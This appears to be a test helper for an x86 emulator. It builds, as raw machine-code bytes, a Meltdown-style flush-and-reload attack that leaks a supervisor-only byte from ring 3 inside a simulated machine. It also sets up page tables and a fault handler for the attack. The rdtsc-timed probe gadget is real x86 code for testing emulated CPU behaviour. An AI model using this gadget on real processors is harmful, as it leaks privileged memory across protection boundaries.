import * as S from "../../src/machine/core/state.ts"
import { CODE, handler, type Lab, STACK0, TABLES } from "./lab.ts"

/*
 * "Flush and reload" in the lab: a program at ring 3 that empties a probe array of 256 lines from the cache, loads a byte that
 * it may not load, touches the line of the byte's value while it can, and finds out by the clock which line that was. The
 * same bytes are right in 64-bit and in 32-bit code.
 */

/** 256 lines; the page with the secret; what it holds. */
export const PROBE = 0x50000
export const SECRET = 0x48000
export const LINE = 64
export const SECRET_BYTE = 0xa7

const DIRECTORY = 0x60000
const TABLE = 0x61000
export const US = 4n

const imm32 = (value: number): ReadonlyArray<number> => [0, 8, 16, 24].map((shift) => (value >>> shift) & 0xff)
/** Jcc rel8 back over `body` and itself. */
const backwards = (opcode: number, body: ReadonlyArray<number>): ReadonlyArray<number> => [
  ...body,
  opcode,
  256 - body.length - 2,
]
const JB = 0x72
const FOR_EACH_LINE = [0xff, 0xc1, 0x81, 0xf9, ...imm32(256)] // inc ecx; cmp ecx, 256

const FLUSH = [
  ...[0x31, 0xc9], // xor ecx, ecx
  ...backwards(JB, [
    ...[0x89, 0xc8], // mov eax, ecx
    ...[0xc1, 0xe0, 0x06], // shl eax, 6
    ...[0x0f, 0xae, 0x3c, 0x06], // clflush [rsi+rax]
    ...FOR_EACH_LINE,
  ]),
  ...[0x0f, 0xae, 0xf0], // mfence
]

/** The load that faults, and what is done with its datum. */
export const LOAD_SECRET = [0x0f, 0xb6, 0x07] // movzx eax, byte [rdi]
export const TOUCH = [
  ...[0xc1, 0xe0, 0x06], // shl eax, 6
  ...[0x0f, 0xb6, 0x04, 0x06], // movzx eax, byte [rsi+rax]
]
export const LFENCE = [0x0f, 0xae, 0xe8]
export const NOP = 0x90

const RELOAD = [
  ...[0x31, 0xc9], // xor ecx, ecx
  ...[0x83, 0xcb, 0xff], // or ebx, -1
  ...backwards(JB, [
    ...[0x0f, 0x31, 0x89, 0xc5], // rdtsc; mov ebp, eax
    ...[0x89, 0xca, 0xc1, 0xe2, 0x06], // mov edx, ecx; shl edx, 6
    ...[0x0f, 0xb6, 0x14, 0x16], // movzx edx, byte [rsi+rdx]
    ...[0x0f, 0x31, 0x29, 0xe8], // rdtsc; sub eax, ebp
    ...[0x83, 0xf8, 0x32, 0x73, 0x02], // cmp eax, 50; jae over
    ...[0x89, 0xcb], // mov ebx, ecx
    ...FOR_EACH_LINE,
  ]),
  0xcc, // int3, which ring 3 may not: #GP
]
const RELOAD_AT = 0x200

export type Width = 32 | 64

/** Address of the page-table entry of a page. */
export const entryAt = (width: Width, linear: number): number =>
  width === 64 ? TABLES + 0x3000 + (linear >>> 12) * 8 : TABLE + (linear >>> 12) * 4

/** Replaces the flags of a page's entry, whose frame is its own page number. */
export const setEntry = (lab: Lab, width: Width, linear: number, value: bigint): void => {
  if (width === 64) lab.ram.writeBig(entryAt(width, linear), value)
  else lab.ram.write32(entryAt(width, linear), Number(value))
  lab.cpu.flushTlb(true)
}

/** Into ring 3 with paging on, the secret's page the supervisor's; a page fault goes on at the reload. */
export const prepare = (lab: Lab, width: Width, gadget: ReadonlyArray<number>): void => {
  lab.enter(width === 64 ? "long" : "prot32", 3)
  const { cpu, ram } = lab
  if (width === 32) {
    ram.write32(DIRECTORY, TABLE | 7)
    for (let page = 0; page < 256; page++) ram.write32(TABLE + 4 * page, (page << 12) | 7)
    cpu.setLong(S.CR3, BigInt(DIRECTORY))
    cpu.setLong(S.CR0, 0x8001_0011n)
    cpu.refresh()
  }
  ram.write8(SECRET, SECRET_BYTE)
  setEntry(lab, width, SECRET, BigInt(SECRET) | 3n)
  lab.code(CODE, [...FLUSH, ...gadget, 0xeb, 0xfe])
  lab.code(CODE + RELOAD_AT, RELOAD)
  const target = imm32(CODE + RELOAD_AT)
  lab.code(
    handler(14),
    width === 64
      ? [0xc7, 0x44, 0x24, 0x08, ...target, 0x48, 0x83, 0xc4, 0x08, 0x48, 0xcf] // mov [rsp+8], …; add rsp, 8; iretq
      : [0xc7, 0x44, 0x24, 0x04, ...target, 0x83, 0xc4, 0x04, 0xcf], // mov [esp+4], …; add esp, 4; iret
  )
  cpu.setGpr(6, BigInt(PROBE))
  cpu.setGpr(7, BigInt(SECRET))
  cpu.setGpr(3, 0n)
  if (width === 64) ram.writeBig(STACK0 - 8, 0n)
}

/** Runs the attack, `slice` instructions at a time at most; the byte that it has found, or undefined. */
export const attack = (lab: Lab, slice = 10_000): number | undefined => {
  for (let i = 0; i < 100_000 && lab.vector !== 13; i++) lab.run(slice)
  if (lab.vector !== 13) throw new Error(`the attack has not ended: RIP ${lab.cpu.rip.toString(16)}`)
  const found = lab.cpu.gprLo(3) | 0
  return found < 0 ? undefined : found
}
